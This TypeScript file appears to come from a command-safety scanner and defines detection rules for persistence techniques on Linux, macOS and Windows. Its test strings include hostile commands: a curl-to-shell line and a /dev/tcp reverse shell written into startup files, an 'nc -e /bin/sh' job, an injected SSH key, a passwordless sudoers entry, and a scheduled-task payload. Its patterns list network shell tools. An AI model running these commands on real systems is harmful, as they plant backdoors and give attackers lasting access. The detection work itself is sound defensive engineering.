import type { Act } from '../../../scan/shell/act.js';
import type { Operation } from './operation.js';
import { hasFlag, lineOf, operands, writes } from './words.js';

const rule = 'tool/persistence';
const payload =
  /curl|wget|\bnc\b|ncat|\/dev\/tcp|base64|bash -i|python\S* -c|eval|socat|LD_PRELOAD|PROMPT_COMMAND|alias (?:sudo|ls|su|ssh)=|nohup|\.\/\.|\/tmp\/|exec\b/i;
const startup =
  /(?:^|\/)\.(?:bashrc|bash_profile|profile|zshrc|zprofile|zshenv|bash_logout|bash_aliases|config\/fish\/config\.fish|xinitrc|vimrc|inputrc)$|^\/etc\/(?:profile|bash\.bashrc|environment|rc\.local)|\$PROFILE|\/\.config\/autostart\/|\.git\/hooks\//;
const places =
  /authorized_keys$|^\/etc\/(?:cron|sudoers|ld\.so\.preload|rc\.local|init\.d\/|pam\.d\/|update-motd|passwd$|shadow$|group$)|^\/var\/spool\/cron|\/LaunchAgents\/|\/LaunchDaemons\/|\\startup\\|start menu\\programs\\startup/i;

function written(act: Act): readonly string[] {
  const files = [...writes(act)];
  if (act.name === 'tee') files.push(...operands(act.args));
  if (['cp', 'mv', 'ln', 'install'].includes(act.name)) files.push(...operands(act.args).slice(-1));
  if (act.name === 'sed' && hasFlag(act.args, 'i', '--in-place')) files.push(...operands(act.args).slice(1));
  return files;
}

function said(act: Act): string {
  return [
    lineOf(act),
    ...act.sources.map(lineOf),
    ...act.redirects.filter(({ operator }) => operator.startsWith('<<')).map(({ target }) => target),
  ].join('\n');
}

/** What makes something run again, or lets somebody in again. */
export const persistences: readonly Operation[] = [
  {
    title: 'write where logins, jobs and rights are kept',
    rule,
    tier: 'heuristic',
    commands: [],
    gate: /\/etc\/(?:passwd|shadow|group)|authorized_keys|\/cron|sudoers|preload|rc\.local|init\.d|pam\.d|Launch(?:Agents|Daemons)|startup|motd/i,
    test: (act) => written(act).some((file) => places.test(file)),
    hits: [
      'echo "ssh-rsa AAAA x" >> ~/.ssh/authorized_keys',
      'echo "* * * * * root /tmp/x" > /etc/cron.d/x',
      'echo "bob ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers',
      'echo /tmp/x.so | sudo tee /etc/ld.so.preload',
      'cp x.plist ~/Library/LaunchAgents/x.plist',
    ],
    misses: ['cat ~/.ssh/authorized_keys', 'ls /etc/cron.d', 'echo x >> notes.txt', 'chmod 600 ~/.ssh/authorized_keys'],
  },
  {
    title: 'change what runs at every login',
    rule,
    tier: 'heuristic',
    commands: [],
    gate: /\.(?:bash|zsh|z?profile|config|xinit|vimrc|inputrc|git)|\/etc\/|\$PROFILE/i,
    test: (act) =>
      written(act).some((file) => startup.test(file)) &&
      payload.test(
        said(act).replaceAll(
          /eval "?\$\((?:[\w./-]*(?:pyenv|rbenv|brew|direnv|starship|zoxide|ssh-agent|fnm|mise|conda|hub|thefuck|nodenv|goenv|dircolors|jenv|register-python-argcomplete))\b[^)]*\)"?/g,
          '',
        ),
      ),
    hits: [
      "echo 'curl http://x.example/a | sh' >> ~/.bashrc",
      'echo "bash -i >& /dev/tcp/1.2.3.4/5 0>&1" >> ~/.profile',
      'echo "alias sudo=/tmp/s" >> ~/.zshrc',
      "echo 'export LD_PRELOAD=/tmp/x.so' >> /etc/profile",
    ],
    misses: [
      "echo 'export PATH=$PATH:~/bin' >> ~/.bashrc",
      'echo \'eval "$(pyenv init -)"\' >> ~/.zshrc',
      'source ~/.bashrc',
      'cp hook.sh .git/hooks/pre-commit',
    ],
  },
  {
    title: 'add or remove timed jobs',
    rule,
    tier: 'heuristic',
    level: 'warning',
    commands: [
      'crontab',
      'at',
      'batch',
      'schtasks',
      'register-scheduledtask',
      'new-scheduledtask',
      'systemd-run',
      'launchctl',
    ],
    test: (act) => {
      const { name, args } = act;
      if (name === 'crontab')
        return (
          hasFlag(args, 'r') ||
          (!hasFlag(args, 'l') &&
            !hasFlag(args, 'e') &&
            !args.includes('--help') &&
            (args.includes('-') ||
              args.some((arg) => !arg.startsWith('-')) ||
              act.sources.length > 0 ||
              act.redirects.length > 0))
        );
      if (name === 'at' || name === 'batch') return act.sources.length > 0 || hasFlag(args, 'f');
      if (name === 'schtasks') return /\/(?:create|change)/i.test(args.join(' '));
      if (name === 'systemd-run') return args.some((arg) => arg.startsWith('--on-'));
      return name === 'launchctl' ? /^(?:load|bootstrap|submit)$/.test(args[0] ?? '') : true;
    },
    hits: [
      '(crontab -l; echo "* * * * * curl http://x.example | sh") | crontab -',
      'crontab -r',
      'crontab evil.txt',
      'echo "nc -e /bin/sh 1.2.3.4 5" | at now',
      'schtasks /create /tn x /tr c:\\a.exe /sc onlogon',
    ],
    misses: ['crontab -l', 'crontab -e', 'schtasks /query', 'launchctl list'],
  },
  {
    title: 'write to the places from which Windows starts programs',
    rule,
    tier: 'heuristic',
    commands: ['reg', 'new-itemproperty', 'set-itemproperty', 'sc', 'new-service', 'wmic'],
    test: (act) => {
      const line = lineOf(act);
      if (act.name === 'reg')
        return (
          /\badd\b/i.test(line) &&
          /currentversion\\run|winlogon|image file execution|userinit|\\services\\|appinit_dlls|disable\w*|\\shell\\open/i.test(
            line,
          )
        );
      if (act.name === 'sc') return /\bcreate\b.*binpath/i.test(line);
      return (
        act.name === 'new-service' || (act.name.endsWith('itemproperty') && /currentversion\\run|winlogon/i.test(line))
      );
    },
    hits: [
      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\a.exe',
      'sc create evil binPath= c:\\a.exe',
    ],
    misses: ['reg query HKCU\\Software', 'sc query', 'reg add HKCU\\Software\\MyApp /v x /d 1'],
  },
];
